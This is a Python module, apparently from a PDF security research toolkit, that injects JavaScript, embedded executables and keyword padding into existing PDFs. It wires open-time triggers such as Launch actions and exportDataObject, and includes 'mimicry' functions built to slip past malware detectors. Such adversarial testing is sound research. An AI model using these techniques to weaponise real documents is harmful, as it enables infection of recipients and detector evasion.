"""Content injection into existing PDF files.

Three techniques are supported:

* ``AFTER_XREF`` places new objects between the last x-ref table and its
  trailer.  No x-ref entry lists them, so a conforming reader never sees
  them, while a byte-scanning parser does.  Usable for mimicry only.
* ``INCREMENTAL`` appends a new body, x-ref section and trailer (/Prev
  linked), as an editing tool would.
* ``GRAPH_MERGE`` rewrites the file as a single revision that contains the
  original graph plus the payload.

Payloads are structurally faithful but inert: benign JavaScript text and
dummy file bytes.
"""

from __future__ import annotations

import copy
import enum
from dataclasses import dataclass
from typing import Any, Iterator, Sequence

from .errors import (NoCatalog, ObjectNumberOverflow, ParseError, TargetUnparseable,
                     TechniqueNotAllowed)
from .filters import flate_encode
from .model import (Document, IndirectObject, Name, ParseMode, PdfString, Reference,
                    Revision, Stream, Trailer, XrefEntry, effective_objects, resolve_deep)
from .parser import parse_document
from .writer import serialize, serialize_object, trailer_block, xref_table

MAX_OBJECT_NUMBER = 8_388_607
MAX_TREE_DEPTH = 32


class InjectionTechnique(str, enum.Enum):
    AFTER_XREF = "after-xref"
    INCREMENTAL = "incremental"
    GRAPH_MERGE = "graph-merge"


class PayloadKind(str, enum.Enum):
    JS = "js"
    PDF = "pdf"
    EXE = "exe"
    NAMES = "names"


class Trigger(str, enum.Enum):
    OPEN_ACTION = "open-action"
    NAMES_JAVASCRIPT = "names-js"
    EMBEDDED_FILE_ONLY = "embedded-only"
    NONE = "none"


_DEFAULT_TRIGGER = {
    PayloadKind.JS: Trigger.OPEN_ACTION,
    PayloadKind.PDF: Trigger.EMBEDDED_FILE_ONLY,
    PayloadKind.EXE: Trigger.EMBEDDED_FILE_ONLY,
    PayloadKind.NAMES: Trigger.NONE,
}
_DEFAULT_FILENAME = {PayloadKind.PDF: "attachment.pdf", PayloadKind.EXE: "payload.exe"}


@dataclass(frozen=True)
class Payload:
    kind: PayloadKind
    content: Any
    trigger: Trigger | None = None
    filename: str | None = None

    def __post_init__(self) -> None:
        kind = PayloadKind(self.kind)
        object.__setattr__(self, "kind", kind)
        object.__setattr__(self, "trigger", Trigger(self.trigger or _DEFAULT_TRIGGER[kind]))
        if self.filename is None and kind in _DEFAULT_FILENAME:
            object.__setattr__(self, "filename", _DEFAULT_FILENAME[kind])
        if kind is PayloadKind.JS and not self.content:
            raise ValueError("JavaScript payload must be non-empty")
        if kind is PayloadKind.EXE and not self.content:
            raise ValueError("executable payload must be non-empty")
        if kind is PayloadKind.PDF:
            try:
                parse_document(bytes(self.content), ParseMode.SCAVENGE)
            except ParseError as exc:
                raise ValueError(f"embedded PDF payload does not parse: {exc}") from None
        if kind is PayloadKind.NAMES:
            object.__setattr__(self, "content",
                               tuple((str(n), int(c)) for n, c in self.content))

    @classmethod
    def js(cls, code: str, trigger: Trigger | str | None = None) -> "Payload":
        return cls(PayloadKind.JS, code, trigger)

    @classmethod
    def pdf(cls, data: bytes, trigger: Trigger | str | None = None,
            filename: str | None = None) -> "Payload":
        return cls(PayloadKind.PDF, data, trigger, filename)

    @classmethod
    def exe(cls, data: bytes, trigger: Trigger | str | None = None,
            filename: str | None = None) -> "Payload":
        return cls(PayloadKind.EXE, data, trigger, filename)

    @classmethod
    def names(cls, entries: Sequence[tuple[str, int]]) -> "Payload":
        return cls(PayloadKind.NAMES, entries)

    @property
    def is_empty(self) -> bool:
        return self.kind is PayloadKind.NAMES and not any(c > 0 for _, c in self.content)


def _parse_target(data: bytes) -> Document:
    try:
        return parse_document(data, ParseMode.STRICT)
    except ParseError as exc:
        raise TargetUnparseable(str(exc)) from None


def _max_number(document: Document) -> int:
    numbers = set(effective_objects(document))
    try:
        numbers |= {o.object_number for o in
                    parse_document(document.source_bytes, ParseMode.SCAVENGE).iter_objects()}
    except ParseError:
        pass
    for trailer in document.trailers():
        size = trailer.dictionary.get("Size")
        if isinstance(size, int) and not isinstance(size, bool) and 0 < size <= MAX_OBJECT_NUMBER + 1:
            numbers.add(size - 1)
    return max(numbers, default=0)


class _Builder:
    """Allocates payload objects and records edits to existing objects."""

    def __init__(self, document: Document, wire: bool):
        self.document = document
        self.wire = wire
        self.next_number = _max_number(document) + 1
        self.new: dict[int, Any] = {}
        self.changed: dict[int, Any] = {}
        self.catalog_number: int | None = None
        self.catalog: dict = {}
        if wire:
            root = document.root_ref
            catalog = resolve_deep(document, root) if root is not None else None
            if not isinstance(catalog, dict):
                raise NoCatalog("trailer /Root does not resolve to a dictionary")
            self.catalog_number = root.object_number
            self.catalog = copy.deepcopy(catalog)

    def add(self, value: Any) -> Reference:
        if self.next_number > MAX_OBJECT_NUMBER:
            raise ObjectNumberOverflow(f"object number {self.next_number} exceeds PDF limit")
        number = self.next_number
        self.next_number += 1
        self.new[number] = value
        return Reference(number)

    def current(self, value: Any) -> tuple[int | None, Any]:
        """(object number or None if direct, editable copy of the resolved value)."""
        if isinstance(value, Reference):
            number = value.object_number
            if number in self.changed:
                return number, self.changed[number]
            return number, copy.deepcopy(resolve_deep(self.document, value))
        return None, value

    def store(self, container: dict, key: str, number: int | None, value: Any) -> None:
        if number is None:
            container[key] = value
        else:
            self.changed[number] = value
            container[key] = Reference(number)

    def chain_open_action(self, action: dict) -> None:
        existing = self.catalog.get("OpenAction")
        if isinstance(existing, list):
            action["Next"] = {"S": Name("GoTo"), "D": existing}
        elif existing is not None:
            action["Next"] = existing
        self.catalog["OpenAction"] = self.add(action)

    def add_name_tree_entry(self, tree_key: str, key: bytes, target: Reference) -> None:
        names_number, names = self.current(self.catalog.get("Names"))
        if not isinstance(names, dict):
            names_number, names = None, {}
        tree_number, tree = self.current(names.get(tree_key))
        if not isinstance(tree, dict):
            tree_number, tree = None, {}
        array_number, array = self.current(tree.get("Names"))
        if isinstance(array, list):
            keys = [array[i].value for i in range(0, len(array) - 1, 2)
                    if isinstance(array[i], PdfString)]
            while key in keys:
                key += b"~"
            pos = 0
            while pos + 1 < len(array) and isinstance(array[pos], PdfString) \
                    and array[pos].value < key:
                pos += 2
            array = array[:pos] + [PdfString(key), target] + array[pos:]
            self.store(tree, "Names", array_number, array)
        elif isinstance(tree.get("Kids"), (list, Reference)):
            kids_number, kids = self.current(tree.get("Kids"))
            if not isinstance(kids, list):
                kids_number, kids = None, []
            leaf = self.add({"Names": [PdfString(key), target],
                             "Limits": [PdfString(key), PdfString(key)]})
            self.store(tree, "Kids", kids_number, kids + [leaf])
        else:
            tree["Names"] = [PdfString(key), target]
        self.store(names, tree_key, tree_number, tree)
        self.store(self.catalog, "Names", names_number, names)


def _js_code_stream(code: str) -> Stream:
    raw = flate_encode(code.encode("latin-1", errors="replace"))
    return Stream({"Length": len(raw), "Filter": Name("FlateDecode")}, raw)


def _build(builder: _Builder, payload: Payload) -> None:
    wire = builder.wire
    trigger = payload.trigger
    if payload.kind is PayloadKind.NAMES:
        refs = [builder.add([Name(name)] * count) for name, count in payload.content if count > 0]
        if wire and refs:
            number, threads = builder.current(builder.catalog.get("Threads"))
            threads = threads if isinstance(threads, list) else []
            builder.store(builder.catalog, "Threads", number, threads + refs)
        return

    if payload.kind is PayloadKind.JS:
        code_ref = builder.add(_js_code_stream(payload.content))
        action = {"Type": Name("Action"), "S": Name("JavaScript"), "JS": code_ref}
        if not wire or trigger in (Trigger.NONE, Trigger.EMBEDDED_FILE_ONLY):
            builder.add(action)
        elif trigger is Trigger.OPEN_ACTION:
            builder.chain_open_action(action)
        else:
            builder.add_name_tree_entry("JavaScript", b"payload", builder.add(action))
        return

    data = bytes(payload.content)
    raw = flate_encode(data)
    stream_ref = builder.add(Stream({
        "Type": Name("EmbeddedFile"), "Length": len(raw), "Filter": Name("FlateDecode"),
        "Params": {"Size": len(data)},
    }, raw))
    fname = PdfString(payload.filename.encode("latin-1"))
    spec_ref = builder.add({"Type": Name("Filespec"), "F": fname, "UF": fname,
                            "EF": {"F": stream_ref}})
    if not wire:
        return
    builder.add_name_tree_entry("EmbeddedFiles", payload.filename.encode("latin-1"), spec_ref)
    if trigger is Trigger.OPEN_ACTION:
        if payload.kind is PayloadKind.EXE:
            action = {"Type": Name("Action"), "S": Name("Launch"), "Win": {"F": fname}}
        else:
            action = {"Type": Name("Action"), "S": Name("GoToE"), "NewWindow": True,
                      "T": {"R": Name("C"), "N": fname}}
        builder.chain_open_action(action)
    elif trigger is Trigger.NAMES_JAVASCRIPT:
        code = f'this.exportDataObject({{cName: "{payload.filename}", nLaunch: 2}});'
        code_ref = builder.add(_js_code_stream(code))
        action = builder.add({"Type": Name("Action"), "S": Name("JavaScript"), "JS": code_ref})
        builder.add_name_tree_entry("JavaScript", b"payload", action)


def inject_after_xref(target: bytes, payload: Payload) -> bytes:
    """Place payload objects between the final x-ref table and its trailer."""
    document = _parse_target(target)
    if payload.is_empty:
        return target
    builder = _Builder(document, wire=False)
    _build(builder, payload)
    blob = b"".join(serialize_object(n, 0, v) for n, v in sorted(builder.new.items()))
    position = document.revisions[-1].trailer_offset
    if position is None:
        raise TargetUnparseable("no trailer position recorded")
    if position > 0 and target[position - 1] not in b"\r\n":
        blob = b"\n" + blob
    return target[:position] + blob + target[position:]


def inject_incremental(target: bytes, payload: Payload) -> bytes:
    """Append a new revision carrying the payload and an updated catalog."""
    document = _parse_target(target)
    builder = _Builder(document, wire=True)
    _build(builder, payload)
    effective = effective_objects(document)
    updates: dict[int, tuple[int, Any]] = {}
    for number, value in {**builder.changed, builder.catalog_number: builder.catalog}.items():
        generation = effective[number].generation if number in effective else 0
        updates[number] = (generation, value)
    for number, value in builder.new.items():
        updates[number] = (0, value)

    out = bytearray(target)
    if not out.endswith((b"\n", b"\r")):
        out += b"\n"
    in_use: dict[int, tuple[int, int]] = {}
    for number in sorted(updates):
        generation, value = updates[number]
        in_use[number] = (len(out), generation)
        out += serialize_object(number, generation, value)
    xref_offset = len(out)
    out += xref_table(in_use, include_head=False)
    trailer = {k: v for k, v in document.revisions[-1].trailer.dictionary.items()
               if k not in ("Prev", "Size", "XRefStm")}
    old_size = document.revisions[-1].trailer.dictionary.get("Size")
    old_size = old_size if isinstance(old_size, int) and not isinstance(old_size, bool) else 0
    trailer["Size"] = max(old_size, max(in_use) + 1)
    trailer["Root"] = Reference(builder.catalog_number,
                                updates[builder.catalog_number][0])
    trailer["Prev"] = document.revisions[-1].xref_offset
    out += trailer_block(trailer, xref_offset)
    return bytes(out)


def inject_graph_merge(target: bytes, payload: Payload) -> bytes:
    """Rewrite the target as one revision containing its graph plus the payload."""
    document = _parse_target(target)
    builder = _Builder(document, wire=True)
    _build(builder, payload)
    objects = {n: o for n, o in effective_objects(document).items()}
    for number, value in {**builder.changed, builder.catalog_number: builder.catalog}.items():
        generation = objects[number].generation if number in objects else 0
        objects[number] = IndirectObject(number, generation, value)
    for number, value in builder.new.items():
        objects[number] = IndirectObject(number, 0, value)
    old = document.revisions[-1].trailer.dictionary
    trailer: dict[str, Any] = {"Root": Reference(builder.catalog_number,
                                                 objects[builder.catalog_number].generation)}
    for key in ("Info", "ID"):
        if key in old:
            trailer[key] = old[key]
    ordered = tuple(objects[n] for n in sorted(objects))
    xref = tuple(XrefEntry(o.object_number, 0, o.generation, True) for o in ordered)
    merged = Document(document.header_version,
                      (Revision(ordered, xref, Trailer(trailer)),),
                      b"", ParseMode.STRICT, ())
    return serialize(merged)


def inject(target: bytes, payload: Payload, technique: InjectionTechnique | str) -> bytes:
    technique = InjectionTechnique(technique)
    if technique is InjectionTechnique.AFTER_XREF:
        return inject_after_xref(target, payload)
    if technique is InjectionTechnique.INCREMENTAL:
        return inject_incremental(target, payload)
    return inject_graph_merge(target, payload)


def make_reverse_mimicry(benign: bytes, payload: Payload,
                         technique: InjectionTechnique | str = InjectionTechnique.GRAPH_MERGE
                         ) -> bytes:
    """Hide malicious-looking content inside a benign file, reachable from /Root."""
    technique = InjectionTechnique(technique)
    if technique is InjectionTechnique.AFTER_XREF:
        raise TechniqueNotAllowed("unreferenced objects never execute; use incremental "
                                  "or graph-merge for reverse mimicry")
    return inject(benign, payload, technique)


def donor_names(benign: bytes, limit: int | None = None) -> list[tuple[str, int]]:
    """Census of a benign file, usable as a mimicry payload."""
    from .forensics import keyword_scan

    census = keyword_scan(parse_document(benign, ParseMode.STRICT, fallback=True)).counts
    items = sorted(census.items(), key=lambda kv: (-kv[1], kv[0]))
    return items[:limit] if limit is not None else items


def make_mimicry(malicious: bytes, donor: Sequence[tuple[str, int]]) -> bytes:
    """Inject donor names into a malicious file where the reader never looks."""
    payload = Payload.names(donor)
    if payload.is_empty:
        return malicious
    try:
        return inject_after_xref(malicious, payload)
    except TargetUnparseable:
        pass
    try:
        document = parse_document(malicious, ParseMode.SCAVENGE)
    except ParseError as exc:
        raise TargetUnparseable(str(exc)) from None
    builder = _Builder(document, wire=False)
    _build(builder, payload)
    blob = b"".join(serialize_object(n, 0, v) for n, v in sorted(builder.new.items()))
    sep = b"" if malicious.endswith((b"\n", b"\r")) else b"\n"
    return malicious + sep + blob


# -- verification -------------------------------------------------------------


def _name_tree_items(document: Document, node: Any, depth: int = 0) -> Iterator[tuple[bytes, Any]]:
    node = resolve_deep(document, node)
    if not isinstance(node, dict) or depth > MAX_TREE_DEPTH:
        return
    names = resolve_deep(document, node.get("Names"))
    if isinstance(names, list):
        for i in range(0, len(names) - 1, 2):
            if isinstance(names[i], PdfString):
                yield names[i].value, names[i + 1]
    kids = resolve_deep(document, node.get("Kids"))
    if isinstance(kids, list):
        for kid in kids:
            yield from _name_tree_items(document, kid, depth + 1)


def _action_chain(document: Document, action: Any) -> Iterator[dict]:
    seen = 0
    action = resolve_deep(document, action)
    while isinstance(action, dict) and seen < MAX_TREE_DEPTH:
        yield action
        seen += 1
        action = resolve_deep(document, action.get("Next"))


def _js_text(document: Document, action: dict) -> str | None:
    if action.get("S") != Name("JavaScript"):
        return None
    code = resolve_deep(document, action.get("JS"))
    if isinstance(code, PdfString):
        return code.value.decode("latin-1")
    if isinstance(code, Stream) and code.decoded_data is not None:
        return code.decoded_data.decode("latin-1")
    return None


def _name_tree(document: Document, catalog: dict, key: str) -> Any:
    names = resolve_deep(document, catalog.get("Names"))
    return names.get(key) if isinstance(names, dict) else None


def trigger_resolves(document: Document, payload: Payload) -> bool:
    """True when /Root leads through the trigger wiring to the payload content."""
    catalog = resolve_deep(document, document.root_ref) if document.root_ref else None
    if not isinstance(catalog, dict):
        return False
    kind, trigger = payload.kind, payload.trigger

    if kind is PayloadKind.NAMES:
        threads = resolve_deep(document, catalog.get("Threads"))
        found = set()
        if isinstance(threads, list):
            for item in threads:
                value = resolve_deep(document, item)
                if isinstance(value, list):
                    found.update(v.value for v in value if isinstance(v, Name))
        return all(name in found for name, count in payload.content if count > 0)

    if kind is PayloadKind.JS:
        if trigger is Trigger.OPEN_ACTION:
            actions = _action_chain(document, catalog.get("OpenAction"))
        elif trigger is Trigger.NAMES_JAVASCRIPT:
            actions = (a for _, v in _name_tree_items(document, _name_tree(document, catalog, "JavaScript"))
                       for a in _action_chain(document, v))
        else:
            return False
        return any(_js_text(document, a) == payload.content for a in actions)

    data = bytes(payload.content)
    embedded = False
    for _, spec in _name_tree_items(document, _name_tree(document, catalog, "EmbeddedFiles")):
        spec = resolve_deep(document, spec)
        ef = resolve_deep(document, spec.get("EF")) if isinstance(spec, dict) else None
        stream = resolve_deep(document, ef.get("F")) if isinstance(ef, dict) else None
        if isinstance(stream, Stream) and stream.decoded_data == data:
            embedded = True
    if not embedded:
        return False
    if trigger is Trigger.OPEN_ACTION:
        wanted = Name("Launch") if kind is PayloadKind.EXE else Name("GoToE")
        return any(a.get("S") == wanted
                   for a in _action_chain(document, catalog.get("OpenAction")))
    if trigger is Trigger.NAMES_JAVASCRIPT:
        return any(_js_text(document, a) and "exportDataObject" in _js_text(document, a)
                   for _, v in _name_tree_items(document, _name_tree(document, catalog, "JavaScript"))
                   for a in _action_chain(document, v))
    return True
